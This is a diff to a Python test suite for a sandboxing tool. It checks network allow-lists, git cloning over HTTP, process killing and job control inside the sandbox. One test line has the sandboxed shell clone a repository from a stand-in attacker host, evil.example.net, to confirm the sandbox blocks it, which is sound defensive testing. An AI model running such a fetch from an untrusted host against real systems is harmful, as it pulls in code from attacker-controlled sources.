@@ -71,7 +71,7 @@ def test_curl_reaches_what_is_allowed_and_is_told_what_is_not(
     code, verdict = sessions.verdict()
     assert (code, verdict["verdict"], verdict["event_count"]) == (0, "verified", 7)
     assert "2 denied, 2 allowed" in done.stderr
-    flows = [json.loads(line) for line in (sessions.only / "flows.ndjson").open()]
+    flows = [json.loads(line) for line in (sessions.only / "flows.ndjson").read_text().splitlines()]
     assert [flow["address"] for flow in flows] == ["127.0.0.1", "127.0.0.1"]
 
 
@@ -97,7 +97,7 @@ def test_git_clones_over_http(sessions: Sessions, tmp_path: Path) -> None:
             "--allow-cwd", "--allow-domain", f"git.example.com:{port}",
             "--resolve", f"git.example.com:{port}:127.0.0.1", "--", "sh", "-c",
             f"git clone -q http://git.example.com:{port}/r.git && cat r/file;"
-            "git clone -q http://evil.example.net/r.git 2>&1",
+            "git clone -q http://evil.example.net/other.git 2>&1",
             cwd=project,
         )  # fmt: skip
     assert done.stdout.startswith("content\n"), done.stderr
@@ -270,7 +270,7 @@ def test_a_stopped_child_can_be_ended(sessions: Sessions) -> None:
 def test_a_killed_cage_is_reported_and_sealed(sessions: Sessions) -> None:
     marker = f"603.{os.getpid()}"
     with sessions.started("run", "--", "sleep", marker) as run:
-        wait_until(lambda: bool(processes_with(f"sleep\0{marker}")), "the child")
+        wait_until(lambda: bool(processes_with(marker, "sleep")), "the child")
         launcher = subprocess.run(
             ["pgrep", "-P", str(run.pid)], capture_output=True, text=True, check=True
         )
@@ -392,7 +392,9 @@ def test_job_control_in_a_shell_inside_the_cage(sessions: Sessions) -> None:
     sessions.variables["PS1"] = "inner$ "
     terminal = Terminal(sessions, "run", "-s", "--", "bash", "--norc", "--noprofile", "-i")
     terminal.wait_for("$ ")
-    terminal.type("sleep 50\n")
+    marker = f"604.{os.getpid()}"
+    terminal.type(f"sleep {marker}\n")
+    wait_until(lambda: bool(processes_with(marker, "sleep")), "the job in the foreground")
     terminal.type("\x1a")
     terminal.wait_for("Stopped")
     terminal.type("kill %1; echo li'ved'\n")
